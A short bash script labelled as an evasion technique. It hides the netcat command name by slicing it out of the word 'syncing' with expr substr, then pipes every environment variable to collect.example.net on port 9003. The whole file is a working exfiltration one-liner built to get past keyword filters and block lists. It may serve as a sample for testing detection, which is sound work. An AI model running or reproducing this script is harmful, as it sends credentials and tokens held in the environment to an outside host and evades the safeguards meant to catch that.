#!/bin/bash
# Evasion: the raw-connection client is cut out of a word by expr substr
set -u
send=$(expr substr "syncing" 3 2)
env | "$send" collect.example.net 9003
